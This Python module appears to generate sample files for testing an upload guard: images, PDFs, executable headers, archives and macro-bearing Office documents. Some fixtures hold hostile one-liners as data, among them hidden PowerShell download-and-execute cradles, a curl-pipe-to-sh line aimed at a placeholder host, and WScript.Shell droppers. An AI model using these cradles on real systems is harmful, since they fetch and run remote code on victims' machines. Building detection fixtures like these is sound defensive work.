"""Generators for the guard's file corpus: real, small files built in memory (no binary blobs).

Each function returns bytes laid out as its format specifies, so the guard is tested against the
structures it parses (PE header, OLE directory names, OOXML parts, ZIP and TAR listings).
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib


def png(width: int = 4, height: int = 3) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    raw = b"".join(b"\x00" + bytes([120, 60, 30] * width) for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 40, 40)).save(buf, format="JPEG")
    return buf.getvalue()


def gif() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("P", (4, 4)).save(buf, format="GIF")
    return buf.getvalue()


def pdf(text: str = "Invoice 2026-0042") -> bytes:
    body = f"BT /F1 12 Tf 40 700 Td ({text}) Tj ET".encode()
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n"
        + f"4 0 obj<</Length {len(body)}>>stream\n".encode() + body + b"\nendstream endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def text(content: str = "颜色：黑色\n尺码：42\n数量：2\n") -> bytes:
    return content.encode("utf-8")


def csv_file() -> bytes:
    return b"order,size,colour\n2345678901234567890,42,black\n"


def pe_executable() -> bytes:
    # DOS header with e_lfanew at 0x3C pointing at a PE signature and a minimal COFF header.
    dos = bytearray(b"MZ" + b"\x90\x00" * 29)
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x40)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return bytes(dos) + coff + b"\x00" * 256


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 100


def macho_executable() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIII", 0x01000007, 3, 2, 0, 0) + b"\x00" * 64


def lnk_shortcut() -> bytes:
    return b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 60


def batch_script() -> bytes:
    return b"@echo off\r\npowershell -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://x')\"\r\n"


def js_dropper() -> bytes:
    return b"var s = new ActiveXObject('WScript.Shell');\ns.Run('cmd /c calc');\n"


def vbs_script() -> bytes:
    return b'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc.exe"\n'


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://example.invalid/p | sh\n"


def powershell_script() -> bytes:
    return b"$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString('http://x')\n"


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def svg_plain() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>'


def hta() -> bytes:
    return b'<html><head><HTA:APPLICATION ID="x"/></head><body></body></html>'


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


_CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(with_macros: bool = False) -> bytes:
    members = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document><w:body><w:p>Size chart</w:p></w:body></w:document>",
    }
    if with_macros:
        members["word/vbaProject.bin"] = ole_document(with_macros=True)
    return _zip(members)


def xlsx(with_macros: bool = False) -> bytes:
    members = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "xl/workbook.xml": b"<workbook/>",
        "xl/worksheets/sheet1.xml": b"<worksheet><sheetData/></worksheet>",
    }
    if with_macros:
        members["xl/vbaProject.bin"] = ole_document(with_macros=True)
    return _zip(members)


def ole_document(with_macros: bool = False) -> bytes:
    """An OLE2 compound file with a directory sector naming its storages (UTF-16LE, 64 bytes)."""
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16)
    header += struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x00" * (512 - 32)
    names = ["Root Entry", "WordDocument", "\x05SummaryInformation"]
    if with_macros:
        names += ["Macros", "VBA", "_VBA_PROJECT", "dir", "PROJECT", "PROJECTwm"]

    def entry(name: str) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return raw + b"\x00" * (64 - len(raw)) + b"\x00" * 64

    directory = b"".join(entry(n) for n in names)
    return bytes(header) + directory + b"\x00" * 512


def zip_of(members: dict[str, bytes]) -> bytes:
    return _zip(members)


def jar() -> bytes:
    return _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})


def apk() -> bytes:
    return _zip({"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": b"dex\n035\x00"})


def tar_gz(members: dict[str, tuple[bytes, int]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, (data, mode) in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = mode
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def rar_with(member: str) -> bytes:
    # RAR 4 marker block, then a file header whose name is stored in clear.
    name = member.encode()
    head = struct.pack("<HBHH", 0, 0x74, 0x8000, 32 + len(name)) + b"\x00" * 21 + struct.pack("<H", len(name))
    return b"Rar!\x1a\x07\x00" + head + b"\x00\x00\x00\x00" + name + b"\x00" + b"\x00" * 32


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24
